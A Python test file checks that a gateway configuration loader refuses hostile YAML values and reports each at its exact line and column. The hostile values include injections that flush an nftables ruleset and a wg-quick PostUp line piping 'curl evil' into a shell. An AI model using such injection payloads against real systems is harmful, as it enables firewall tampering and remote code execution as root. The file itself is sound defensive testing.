"""Hostile gateway files: every string field is typed, so text that would escape into the nft
script, a wg-quick file or a RouterOS script is refused at its file:line:col."""

from __future__ import annotations

import pytest
from repo_kit import GATEWAY_YAML, load

from reconciler.repo.state import RepoState


def gateway_with(old: str, new: str) -> str:
    assert old in GATEWAY_YAML
    return GATEWAY_YAML.replace(old, new)


def gateway_problems(state: RepoState) -> list[tuple[int, int, str]]:
    return [(p.line, p.col, p.message) for p in state.problems if p.file == "gateway.yaml"]


HOSTILE = [
    # The injection from the issue: closes the set, flushes the whole ruleset inside our own
    # nft transaction and reopens the table.
    ("infra_interfaces: [wg0]",
     'infra_interfaces: ["wg0) }\\n}\\nflush ruleset\\ntable inet tunnelctl {\\n#"]',
     11, 20, "not a Linux interface name"),
    ("infra_interfaces: [wg0]", "infra_interfaces: [wg0, '..']", 11, 25, "not a Linux interface name"),
    ("infra_interfaces: [wg0]", "infra_interfaces: [wg0, eth0 eth1]", 11, 25, "not a Linux interface name"),
    ("interface: wg1", "interface: 'wg1; flush'", 4, 12, "not a Linux interface name"),
    # A second [Interface] with PostUp in the customer's wg-quick file (run as root there).
    ("endpoint: 203.0.113.10:51821",
     'endpoint: "203.0.113.10\\n[Interface]\\nPostUp = curl evil | sh\\n#:51821"',
     12, 11, "must be host:port"),
    ("endpoint: 203.0.113.10:51821", "endpoint: 'vpn.example.com comment=x:51821'", 12, 11,
     "must be host:port"),
    ("endpoint: 203.0.113.10:51821", "endpoint: '999.0.113.10:51821'", 12, 11, "not an IPv4 address"),
    ("endpoint: 203.0.113.10:51821", "endpoint: '203.0.113.10:70000'", 12, 11, "must be host:port"),
    ("description: SIP signalling", 'description: "SIP\\n}\\nflush ruleset"', 19, 18, "line break"),
    ("description: SIP signalling", 'description: "SIP\\u001b[2J"', 19, 18, "control character"),
]


@pytest.mark.parametrize("old,new,line,col,words", HOSTILE, ids=[h[1][:40] for h in HOSTILE])
def test_hostile_gateway_values_are_refused_where_they_stand(old: str, new: str, line: int,
                                                             col: int, words: str) -> None:
    found = gateway_problems(load({}, gateway=gateway_with(old, new)))
    assert found, "accepted"
    assert (found[0][0], found[0][1]) == (line, col), found
    assert words in found[0][2], found


@pytest.mark.parametrize("endpoint", ["203.0.113.10:51821", "vpn.example.com:51821",
                                      "[2001:db8::1]:51821", "gw-1.cloud.example.:443"])
def test_ordinary_endpoints_still_load(endpoint: str) -> None:
    state = load({}, gateway=gateway_with("endpoint: 203.0.113.10:51821", f"endpoint: '{endpoint}'"))
    assert gateway_problems(state) == []
